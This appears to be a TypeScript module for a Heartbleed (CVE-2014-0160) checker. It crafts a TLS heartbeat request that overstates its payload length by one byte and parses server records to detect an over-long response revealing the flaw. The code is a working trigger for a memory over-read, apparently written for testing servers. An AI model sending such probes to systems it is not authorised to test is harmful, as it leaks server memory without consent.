/** Heartbeats of RFC 6520, in clear. */
import { uint16, vector16 } from './vectors.ts';

const ALERT = 21;
const HEARTBEAT = 24;
const REQUEST = 1;
const RESPONSE = 2;

/** OpenSSL holds back what is shorter while a handshake goes on. */
const PAYLOAD_BYTES = 4_096;

/**
 * A heartbeat request with 4,096 bytes of payload, that says it has one more, and no padding: whoever looks at lengths drops it
 * (RFC 6520 section 4), and whoever does not answers with one byte of its memory (CVE-2014-0160).
 *
 * @param version of the ServerHello
 */
export function lyingHeartbeat(version: number): Buffer {
  const message = Buffer.concat([Buffer.of(REQUEST), uint16(PAYLOAD_BYTES + 1), Buffer.alloc(PAYLOAD_BYTES)]);
  return Buffer.concat([Buffer.of(HEARTBEAT), uint16(version), vector16(message)]);
}

/** Whether one of these records is a heartbeat response with a longer payload than was sent. The payload is not looked at. */
export class HeartbeatReader {
  #head = Buffer.alloc(0);
  #skip_bytes = 0;

  /** @returns null while neither a heartbeat nor an alert was seen */
  push(chunk: Buffer): boolean | null {
    let rest = chunk;
    for (;;) {
      const skipped = Math.min(this.#skip_bytes, rest.length);
      this.#skip_bytes -= skipped;
      rest = rest.subarray(skipped);
      const wanted = HEAD_BYTES - this.#head.length;
      this.#head = Buffer.concat([this.#head, rest.subarray(0, wanted)]);
      if (this.#head[0] === ALERT) return false;
      if (this.#head.length < HEAD_BYTES) return null;
      rest = rest.subarray(wanted);
      const head = this.#head;
      const length = head.readUInt16BE(3);
      if (head[0] === HEARTBEAT)
        return head[5] === RESPONSE && head.readUInt16BE(6) > PAYLOAD_BYTES && length > PAYLOAD_BYTES;
      // Too short for a head of its own: nothing a server sends there.
      if (length < HEAD_BYTES - RECORD_HEAD_BYTES) return false;
      this.#skip_bytes = length - (HEAD_BYTES - RECORD_HEAD_BYTES);
      this.#head = Buffer.alloc(0);
    }
  }
}

const RECORD_HEAD_BYTES = 5;
/** Of the record, and of the heartbeat in it: type and length of its payload. */
const HEAD_BYTES = RECORD_HEAD_BYTES + 3;
